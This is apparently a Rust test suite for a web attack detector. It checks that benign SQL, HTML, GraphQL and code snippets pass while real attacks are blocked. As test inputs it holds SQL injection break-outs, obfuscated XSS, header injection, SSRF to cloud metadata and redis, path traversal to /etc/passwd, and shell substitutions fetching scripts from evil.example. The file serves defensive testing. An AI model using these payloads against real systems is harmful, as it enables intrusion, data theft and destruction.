//! Precision by context: values that hold data where they land pass, the
//! same families stay caught where the value works as an attack. Each case
//! here is a class seen on real traffic (see the module docs of each test).

mod common;
use common::*;
use portcullis_detect::Family;

fn json(body: &str) -> portcullis_detect::Verdict {
    run(
        "POST",
        "/api/collect",
        &[("content-type", "application/json")],
        body.as_bytes(),
    )
}

fn assert_passes(what: &str, v: &portcullis_detect::Verdict) {
    assert!(!blocked(v), "{what} refused: {:?}", v.findings);
}

fn assert_blocked(what: &str, v: &portcullis_detect::Verdict) {
    assert!(blocked(v), "{what} passed: {:?}", v.findings);
}

#[test]
fn cgi_bin_paths_are_a_signal_not_a_refusal() {
    let v = run(
        "GET",
        "/cgi-bin/mmwebwx-bin/webwxinit?r=-1742281234&lang=zh_CN&pass_ticket=abc",
        &[],
        b"",
    );
    assert_passes("a WeChat web API path", &v);
    // A scanner path alone never refuses, but the gateway still sees it.
    let v = run("GET", "/.git/config", &[], b"");
    assert_passes("a scanner path alone", &v);
    let top = v.top().expect("the scanner path is reported");
    assert!(top.signal && top.family == Family::ScannerPath, "{top:?}");
    assert!(v.signal_score > 0 && v.total_score == 0);
    // With an attack it adds nothing to the refusal but is still listed.
    let v = run("GET", "/.git/config?id=1%27%20or%20%271%27=%271", &[], b"");
    assert_blocked("an attack on a scanner path", &v);
}

#[test]
fn sql_search_terms_pass_in_query_and_referer() {
    for q in [
        "select 1 from a",
        "union select 关键字",
        "select * from users",
        "how to write union select in mysql",
    ] {
        let target = format!("/search?q={}", enc(q));
        assert_passes(q, &run("GET", &target, &[], b""));
        let referer = format!("https://www.baidu.com/s?wd={}&ie=utf-8", enc(q));
        assert_passes(
            q,
            &run("GET", "/item/42", &[("referer", referer.as_str())], b""),
        );
    }
}

#[test]
fn referer_query_is_inspected_like_the_request_query() {
    let referer = format!(
        "https://shop.example.com/list?id={}&page=2",
        enc("1' UNION SELECT password FROM users--")
    );
    let v = run("GET", "/item/42", &[("referer", referer.as_str())], b"");
    assert_blocked("SQLi in the referer's query", &v);
    assert!(
        v.findings.iter().any(|f| f.location == "header.referer.id"),
        "{:?}",
        v.findings
    );
    let origin = "https://a.example.com/?next=%3Cscript%3Ealert(1)%3C/script%3E";
    assert_blocked(
        "XSS in the origin's query",
        &run("GET", "/", &[("origin", origin)], b""),
    );
}

#[test]
fn crlf_inside_json_strings_passes() {
    let body = format!(
        "{{\"log\":{},\"text\":{}}}",
        json_str(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: sid=1; Path=/\r\nLocation: /home\r\n"
        ),
        json_str("Dear team,\r\nTo: all\r\nSubject: weekly report\r\nthanks")
    );
    assert_passes("CR LF in JSON strings", &json(&body));
    // The same in a query value still splits a header.
    assert_blocked(
        "CR LF header injection in a query",
        &run("GET", "/r?next=%0d%0aSet-Cookie:%20a=b", &[], b""),
    );
}

#[test]
fn rich_text_html_in_json_passes() {
    let html = "<p style=\"color:red\">Hello <b>world</b></p><p><img src=\"https://img.example.com/a.png\" alt=\"a\" width=\"300\"></p><p><a href=\"https://example.com/x?a=1&b=2\" target=\"_blank\">link</a></p><iframe src=\"https://player.example.com/video/42\" frameborder=\"0\" allowfullscreen></iframe><table><tr><td>1</td></tr></table>";
    let body = format!("{{\"title\":\"post\",\"content\":{}}}", json_str(html));
    assert_passes("rich-text HTML in JSON", &json(&body));
    let evil = "<p>hi</p><img src=x onerror=\"alert(document.cookie)\">";
    let body = format!("{{\"content\":{}}}", json_str(evil));
    assert_blocked("an event handler in rich text", &json(&body));
}

#[test]
fn a_search_for_a_tag_name_passes() {
    for q in ["1<script", "<script", "what is <iframe"] {
        let target = format!("/search?q={}", enc(q));
        assert_passes(q, &run("GET", &target, &[], b""));
    }
    assert_blocked(
        "a script tag",
        &run(
            "GET",
            "/search?q=1%3Cscript%3Ealert(1)%3C/script%3E",
            &[],
            b"",
        ),
    );
}

#[test]
fn graphql_queries_pass() {
    // Fields on lines of their own read like shell commands after a newline
    // (`id`, `ls`, `env`), and arguments like shell operators.
    let queries = [
        "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    avatar(size: 64)\n    friends(first: 10) { edges { node { id } } }\n  }\n}",
        "mutation {\n  createOrder(input: {sku: \"A-1\", qty: 2, note: \"ring twice; then leave\"}) {\n    id\n    status\n  }\n}",
        "{\n  search(text: \"cat & dog\") {\n    ... on Product { id title }\n  }\n}",
        "query {\n  env(name: \"PATH\") { value }\n  system { uptime }\n  exec: run(cmd: \"ls\") { ok }\n}",
    ];
    for q in queries {
        let body = format!(
            "{{\"query\":{},\"variables\":{{\"id\":\"42\"}}}}",
            json_str(q)
        );
        assert_passes(q, &json(&body));
        let target = format!("/graphql?query={}", enc(q));
        assert_passes(q, &run("GET", &target, &[], b""));
    }
    // An argument of a GraphQL query is still a value.
    let q = "{ user(name: \"x' UNION SELECT password FROM users--\") { id } }";
    let body = format!("{{\"query\":{}}}", json_str(q));
    assert_blocked("SQLi inside a GraphQL argument", &json(&body));
}

#[test]
fn javascript_source_in_analytics_passes() {
    let js = "(function(){var e=document.createElement('script');e.src='https://hm.example.com/hm.js?abc';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(e,s);if(this.items.length>0&&this.$where){return this.items.map(function(x){return x.id})}})();";
    let body = format!("{{\"event\":\"snippet\",\"src\":{}}}", json_str(js));
    assert_passes("JS source in analytics JSON", &json(&body));
}

#[test]
fn localhost_urls_in_config_json_pass() {
    let body = r#"{"apiBase":"http://localhost:8000/","ws":"ws://127.0.0.1:8080/socket","dev":{"proxy":"http://192.168.1.10:3000/api"}}"#;
    assert_passes("dev URLs in config JSON", &json(body));
    let body = r#"{"webhook":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#;
    assert_blocked("a cloud metadata URL", &json(body));
    let body = r#"{"avatar":"gopher://127.0.0.1:6379/_FLUSHALL"}"#;
    assert_blocked("gopher to a local redis", &json(body));
}

#[test]
fn yaml_inside_json_passes() {
    let yaml = "version: 2\nmodules:\n  - path: ../shared\n  - path: ../../lib/common\n  - path: ../../../vendor\ninclude: ./local.yml\n";
    let body = format!("{{\"config\":{}}}", json_str(yaml));
    assert_passes("YAML in JSON", &json(&body));
    let body = format!("{{\"file\":{}}}", json_str("../../../../etc/passwd"));
    assert_blocked("traversal to a system file in JSON", &json(&body));
}

#[test]
fn obfuscated_xss_is_caught() {
    for payload in [
        // JSFuck: only []()!+ characters.
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]+([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]+(!![]+[])[+!+[]]]()",
        // ES6 code point escapes in an identifier.
        "<img src=x onerror=\\u{61}lert(1)>",
        "\\u{61}\\u{6c}\\u{65}\\u{72}\\u{74}(document.domain)",
        // A data: URI whose scheme is spelled with entities.
        "<a href=\"data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<iframe src=\"&#100;&#97;&#116;&#97;:text/html,<script>alert(1)</script>\"></iframe>",
    ] {
        let target = format!("/p?x={}", enc(payload));
        assert_blocked(payload, &run("GET", &target, &[], b""));
    }
}

#[test]
fn loosely_read_sqli_is_caught() {
    for payload in [
        "1) and 4386=utl_inaddr.get_host_address(chr(113)||chr(113)||chr(112))",
        "1 where 5929=5929 or 5286=(select count(*) from all_users t1,all_users t2)--",
        "1;select case when 2599=7035 then 1 else null end--",
        "-5116) or (8287=4930)*4930",
        "1 and elt(4249=4249,7259)#",
        "iif(2976=2976,1,1/0)",
    ] {
        let target = format!("/item?id={}", enc(payload));
        assert_blocked(payload, &run("GET", &target, &[], b""));
    }
}

#[test]
fn rich_text_with_inline_styles_is_not_xss_but_active_css_is() {
    let d = portcullis_detect::Detector::default();
    let post = |content: &str| {
        let body = serde_json::json!({ "title": "朝中措", "content": content }).to_string();
        let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
        d.inspect(&portcullis_detect::RawRequest {
            method: "POST",
            target: b"/api/posts",
            headers: &headers,
            body: body.as_bytes(),
            body_truncated: false,
        })
        .is_attack(portcullis_detect::DEFAULT_THRESHOLD)
    };
    assert!(!post(
        r#"<div class="ql-editor"><p><span style="color: rgb(51, 51, 51);">當年司馬溫公力</span></p></div>"#
    ));
    assert!(!post(
        r#"<h2 style="text-align: center;">朝中措</h2><p><strong>洪适</strong></p>"#
    ));
    assert!(post(r#"<div style="width: expression(alert(1))">x</div>"#));
    assert!(post(r#"<p style="x" onmouseover="alert(1)">x</p>"#));
}

#[test]
fn sql_a_person_searched_for_in_the_referer_is_not_sqli_but_a_breakout_is() {
    let d = portcullis_detect::Detector::default();
    let get = |referer: &str| {
        let headers: Vec<(&str, &[u8])> = vec![("referer", referer.as_bytes())];
        d.inspect(&portcullis_detect::RawRequest {
            method: "GET",
            target: b"/api/questions",
            headers: &headers,
            body: b"",
            body_truncated: false,
        })
        .is_attack(portcullis_detect::DEFAULT_THRESHOLD)
    };
    assert!(!get(
        "https://www.google.com/search?q=SELECT%20%28%28SELECT%200%29%20UNION%20%28SELECT%201%29%20ORDER%20BY%201%29"
    ));
    assert!(!get(
        "https://www.baidu.com/s?wd=union%20select%20%E5%85%B3%E9%94%AE%E5%AD%97"
    ));
    assert!(get(
        "https://www.google.com/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
    ));
    assert!(
        get("https://x.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        "script in a referrer still counts"
    );
}

#[test]
fn sql_in_a_code_block_of_a_forum_post_passes_but_a_breakout_is_caught() {
    // The quotes of the markup (`class="language-sql"`) and the statement's
    // own literals stay inside the string the post is stored in.
    for post in [
        r#"{"title":"SQL: SELECT a, b FROM test GROUP BY a","content":"<p>Why does this query fail?</p><pre><code class=\"language-sql\">SELECT a, b FROM test GROUP BY a</code></pre>"}"#,
        r#"{"title":"SQL: SELECT a FROM x WHERE a COLLATE 'utf8_general_ci'","content":"<pre><code class=\"language-sql\">SELECT a FROM x WHERE a COLLATE 'utf8_general_ci' = 'b'</code></pre>"}"#,
        r#"{"title":"SQL: x IN ('a', 'a''a')","content":"<pre><code>INSERT INTO t1 (\"tc1\" /* tc1 */) SELECT \"c1\" /* sc1 */ FROM t</code></pre>"}"#,
    ] {
        assert_passes(post, &json(post));
    }
    for attack in [
        r#"{"title":"x' UNION SELECT password FROM users--","content":"<p>hi</p>"}"#,
        r#"{"title":"hi","content":"<pre><code class=\"language-sql\">' or 1=1--</code></pre>"}"#,
        r#"{"id":"1 union select password from users"}"#,
        r#"{"q":"x/*!UNION*/ /*!SELECT*/ password FROM users"}"#,
    ] {
        assert_blocked(attack, &json(attack));
    }
}

#[test]
fn sql_search_terms_with_literals_in_the_referer_pass_but_a_breakout_is_caught() {
    let referer_blocked = |q: &str| {
        let referer = format!("https://www.google.com/search?q={}&oq={}", enc(q), enc(q));
        blocked(&run(
            "GET",
            "/api/questions",
            &[("referer", referer.as_str())],
            b"",
        ))
    };
    for search in [
        "SQL: SELECT a FROM x WHERE a COLLATE 'utf8_general_ci' = 'b'",
        "x IN ('a', 'a''a')",
        "CURRENT_DATE('UTC')",
        "SELECT * FROM x WHERE name LIKE ANY XXX('a', 'b')",
    ] {
        assert!(!referer_blocked(search), "search refused: {search}");
    }
    for attack in [
        "x' or '1'='1",
        "' or ''='",
        "admin'--",
        "1\" union select password from users#",
    ] {
        assert!(referer_blocked(attack), "break-out passed: {attack}");
    }
}

#[test]
fn markdown_code_spans_and_fences_are_not_command_substitution() {
    for text in [
        "You can use a tool such as `curl` to submit a parameter value.",
        "Re-runs your workflow run using its `id`. You must authenticate.",
        "Lists webhooks for a repository. `last response` may return null.",
        "see the [`curl` documentation](https://curl.se/docs/manpage.html)",
        "请使用`curl`命令下载",
        "```ruby\ndef foo(x)\n  return 3\nend\n```\n",
        "Lists webhooks for a repository. `last",
    ] {
        let body = format!(
            r#"{{"raw":{}}}"#,
            serde_json::to_string(text).unwrap_or_default()
        );
        assert_passes(text, &json(&body));
        let form = format!("content={}", enc(text));
        assert_passes(
            text,
            &run(
                "POST",
                "/wp-admin/post.php",
                &[("content-type", "application/x-www-form-urlencoded")],
                form.as_bytes(),
            ),
        );
    }
    for attack in [
        "`curl -L http://evil.example/x.sh`",
        "ax--exec=`id`--remote=origin",
        "name=`id`",
        "hello;`whoami`",
        "a `cat /etc/passwd`",
    ] {
        let form = format!("content={}", enc(attack));
        assert_blocked(
            attack,
            &run(
                "POST",
                "/comment",
                &[("content-type", "application/x-www-form-urlencoded")],
                form.as_bytes(),
            ),
        );
    }
}

#[test]
fn a_search_post_or_error_report_that_opens_as_text_passes_but_telling_sql_is_caught() {
    let query_blocked = |q: &str| blocked(&run("GET", &format!("/search?q={}", enc(q)), &[], b""));
    for search in [
        "SELECT COUNT(*) FROM orders WHERE created_at > '2024-01-01' GROUP BY user_id",
        "mysql select * from users where name like '%张%'",
        "how to delete from t where a = 'x'; select 1",
        "<div class=\"ql-editor\"><p>SELECT * FROM users WHERE id = 1</p></div>",
        "Uncaught SyntaxError: Unexpected token '<' (at index.js:1:1)",
    ] {
        assert!(!query_blocked(search), "search refused: {search}");
    }
    for attack in [
        "select pg_sleep(5)",
        "select * from information_schema.tables",
        "select name from sysibm.systables",
        "select x' or 1=1--",
        "UNION ALL SELECT NULL#",
        "1 union select password from users",
        "john smith' or 1=1--",
        "<p>1 union select password from users</p>",
    ] {
        assert!(query_blocked(attack), "passed: {attack}");
    }
}

#[test]
fn code_shown_in_a_code_block_passes_but_the_same_outside_it_is_caught() {
    let post = |content: &str| {
        let body = format!("content={}&action=editpost", enc(content));
        run(
            "POST",
            "/wp-admin/post.php",
            &[("content-type", "application/x-www-form-urlencoded")],
            body.as_bytes(),
        )
    };
    for shown in [
        "<p>Try it:</p><pre><code>curl -X GET \"http://127.0.0.1:3000/admin/users/list\"</code></pre>",
        "<p>Then</p><pre><code>cat /etc/hosts; wget http://mirror.example/x.tar.gz</code></pre>",
        "Python:\n```python\nimport os\nos.system('ls -la')\n```\nDone.",
    ] {
        assert_passes(shown, &post(shown));
    }
    for attack in [
        "<p>Try it:</p><pre><code>x</code></pre>http://127.0.0.1:3000/admin/users/list",
        "<pre><code>x</code></pre>; wget http://evil.example/x.sh",
        "<pre><code>x</code></pre><script>alert(1)</script>",
        "```\nx\n```\nos.system('id')",
        "<pre><code>unclosed; wget http://evil.example/x.sh",
    ] {
        assert_blocked(attack, &post(attack));
    }
}

/// An OAuth native app's redirect to its own loopback listener (RFC 8252
/// 7.3) is where the browser goes, not a fetch by the server; a URL the
/// server fetches, or a metadata address anywhere, still counts.
#[test]
fn a_browser_redirect_to_loopback_is_not_a_fetch() {
    for target in [
        "/oauth/authorize?client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F",
        "/oauth/authorize?client_id=cli&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Foauth%2Fcallback",
        "/logout?post_logout_redirect_uri=http%3A%2F%2Flocalhost%3A3000%2F",
        "/login?returnTo=http%3A%2F%2F192.168.1.20%3A8080%2Fhome",
    ] {
        assert_passes(target, &run("GET", target, &[], b""));
    }
    for target in [
        "/fetch?url=http%3A%2F%2F127.0.0.1%2Fadmin",
        "/oauth/authorize?request_uri=http%3A%2F%2F127.0.0.1%2Fadmin",
        "/oauth/authorize?redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    ] {
        assert_blocked(target, &run("GET", target, &[], b""));
    }
    assert_passes(
        "prose naming the file scheme",
        &run("GET", "/s?q=file%3A%2F%2F%20URLs", &[], b""),
    );
    assert_blocked(
        "a file URL",
        &run("GET", "/s?q=file%3A%2F%2F%2Fetc%2Fpasswd", &[], b""),
    );
}
